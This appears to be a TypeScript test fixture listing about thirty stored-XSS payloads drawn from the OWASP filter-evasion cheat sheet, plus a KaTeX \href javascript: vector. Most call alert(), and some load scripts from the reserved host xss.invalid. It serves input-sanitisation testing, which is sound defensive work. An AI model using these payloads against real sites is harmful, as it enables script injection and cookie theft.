/**
 * Stored-XSS payloads: a representative selection of the vectors in the OWASP Cheat Sheet Series,
 * "XSS Filter Evasion Cheat Sheet" (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
 * each kept under 200 characters (the short-text limit) and made to call alert() so that a payload
 * that runs is noticed. Remote script addresses point at a reserved domain (RFC 2606). The last
 * entry is not from the cheat sheet: it aims at KaTeX, which renders `$…$` in rich text (KaTeX's
 * documentation, "Security": \href and \url stay inert unless `trust` is set).
 */
export const XSS_PAYLOADS: string[] = [
  `<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=\`javascript:alert("RSnake says, 'XSS'")\`>`,
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="https://xss.invalid/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=https://xss.invalid/xss.js?< B >`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<svg/onload=alert('XSS')>`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<STYLE>@import'https://xss.invalid/xss.css';</STYLE>`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.invalid/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `"><script>alert(1)</script>`,
  `'';!--"<XSS>=&{()}`,
  `\\";alert('XSS');//`,
  `<details open ontoggle=alert(1)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `$\\href{javascript:alert(1)}{x}$ and $\\url{javascript:alert(2)}$`,
];

/** Only printable ASCII and single spaces: what a PDF's text layer can be compared with. */
export const printable = (s: string) => /^[\x20-\x7e]+$/.test(s);
